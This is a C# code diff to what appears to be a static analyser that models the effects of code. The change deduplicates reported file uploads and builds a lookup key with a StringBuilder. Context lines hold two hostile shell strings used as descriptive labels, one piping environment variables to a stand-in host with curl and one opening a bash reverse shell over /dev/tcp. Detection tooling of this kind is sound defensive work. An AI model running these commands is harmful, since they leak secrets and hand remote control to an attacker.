@@ -8,6 +8,7 @@ internal sealed class CodeEffects(CodeText text, List<CodeCall> calls, int level
 
     private readonly List<CodeValue> _reads = [];
     private readonly HashSet<(int Start, string Words)> _seen = [];
+    private readonly HashSet<string?> _sent = [];
     private CodeValue? _sentTo;
     private bool _isOpenToNetwork;
     private bool _startsShell;
@@ -125,7 +126,11 @@ internal sealed class CodeEffects(CodeText text, List<CodeCall> calls, int level
         if (!IsMuted && !IsLocal(url))
         {
             var origins = arguments.Origins();
-            if (origins.File is { } file) Upload(file, url, start, end);
+            if (origins.File is { } file)
+            {
+                Upload(file, url, start, end);
+                _sent.Add(file.Text);
+            }
             if (origins.Is(CodeTraits.Environment)) AddShell("env | curl --data-binary @- https://host.invalid/", start, end);
             if (sends) _sentTo = url;
         }
@@ -165,7 +170,10 @@ internal sealed class CodeEffects(CodeText text, List<CodeCall> calls, int level
     {
         if (_isOpenToNetwork && _startsShell) AddShell("bash -i >& /dev/tcp/host.invalid/4444 0>&1", 0, length);
         if (_sentTo is null && !_isOpenToNetwork) return;
-        foreach (var file in _reads) Upload(file, _sentTo ?? CodeValue.Unknown, 0, length);
+        foreach (var file in _reads)
+        {
+            if (!_sent.Contains(file.Text)) Upload(file, _sentTo ?? CodeValue.Unknown, 0, length);
+        }
     }
 
     public CodeValue Located(CodeValue path)
@@ -190,9 +198,9 @@ internal sealed class CodeEffects(CodeText text, List<CodeCall> calls, int level
     private void Add(CodeCall call, int start)
     {
         if (calls.Count >= MostCalls) return;
-        var key = "";
-        foreach (var word in call.Words) key += word.Shown + "\0";
-        if (_seen.Add((start, key))) calls.Add(call);
+        var key = new System.Text.StringBuilder();
+        foreach (var word in call.Words) key.Append(word.Shown).Append('\0');
+        if (_seen.Add((start, key.ToString()))) calls.Add(call);
     }
 
     private Word ToWord(CodeValue value) =>
